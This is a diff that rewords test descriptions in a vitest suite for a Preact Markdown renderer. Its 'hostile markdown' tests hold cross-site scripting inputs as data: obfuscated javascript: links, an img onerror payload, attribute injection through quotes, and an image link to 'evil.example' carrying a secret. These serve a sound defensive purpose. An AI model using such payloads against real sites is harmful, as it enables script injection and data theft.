@@ -3,7 +3,7 @@ import type { ComponentChild, VNode } from 'preact'
 import { describe, expect, it } from 'vitest'
 import { Markdown } from './markdown.tsx'
 
-/** What the vnodes amount to: tags, properties and text, as a browser would build them. */
+/** Serializes vnodes to HTML as a browser would render them. */
 function html(text: string): string {
   return print(Markdown({ text }))
 }
@@ -65,7 +65,7 @@ describe('markdown', () => {
     expect(html(text)).toBe(expected)
   })
 
-  it('shows the beginnings of markup that is still streaming in as text', () => {
+  it('renders incomplete markup of a streaming text as text', () => {
     expect(html('**bo')).toBe('<p>**bo</p>')
     expect(html('[a](https://')).toContain('[a](')
   })
@@ -91,7 +91,7 @@ describe('hostile markdown', () => {
     '[x](&#106;avascript:alert(1))',
     '[x](%6Aavascript:alert(1))',
   ]
-  it.each(hostile)('makes no link of %j', (text) => {
+  it.each(hostile)('creates no link for %j', (text) => {
     expect(html(text)).not.toContain('<a')
     expect(html(text)).not.toContain('href')
   })
@@ -105,7 +105,7 @@ describe('hostile markdown', () => {
     '`<img src=x onerror=alert(1)>`',
     '| <img src=x> |\n|-|-|\n| <b>|',
     '- <style>*{display:none}</style>',
-  ])('leaves HTML as text: %j', (text) => {
+  ])('renders HTML as text: %j', (text) => {
     const tags = [...html(text).matchAll(/<(\w+)/g)].map(([, tag]) => tag)
     expect(
       tags.filter((tag) => ['script', 'img', 'a', 'svg', 'iframe', 'style', 'b'].includes(tag ?? '')),
@@ -113,18 +113,18 @@ describe('hostile markdown', () => {
     expect(html(text)).toContain('&#60;')
   })
 
-  it('fetches no picture that a text names', () => {
+  it('loads no image that a text refers to', () => {
     expect(html('![a](https://evil.example/?secret=1)')).toBe(
       '<p>!<a href="https://evil.example/?secret=1">a</a></p>'.replace('!', ''),
     )
     expect(html('![a](data:image/svg+xml,<svg>)')).not.toContain('href')
   })
 
-  it('keeps quotes in an address from becoming attributes', () => {
+  it('escapes quotes in the address of a link', () => {
     expect(html('[x](https://a.example/"onmouseover="alert(1))')).toContain('%22onmouseover=%22')
   })
 
-  it('opens links apart from this page', () => {
+  it('opens links in a new tab', () => {
     const [block] = parseMarkdown('[x](https://a.example)')
     expect(block).toBeDefined()
     const node = Markdown({ text: '[x](https://a.example)' })
@@ -153,12 +153,12 @@ describe('hostile markdown', () => {
     '[a](b',
     '((',
     '***',
-  ])('ends on 50,000 characters of %j', (piece) => {
+  ])('terminates on 50,000 characters of %j', (piece) => {
     const blocks = parseMarkdown(piece.repeat(50_000 / piece.length))
     expect(blocks.length).toBeGreaterThan(0)
   })
 
-  it('bounds the depth', () => {
+  it('limits the depth of nesting', () => {
     expect(JSON.stringify(parseMarkdown(`${'>'.repeat(5000)} deep`)).length).toBeLessThan(20_000)
     const nested = Array.from({ length: 300 }, (_, level) => `${' '.repeat(level * 2)}- x`).join('\n')
     expect(() => JSON.stringify(parseMarkdown(nested))).not.toThrow()
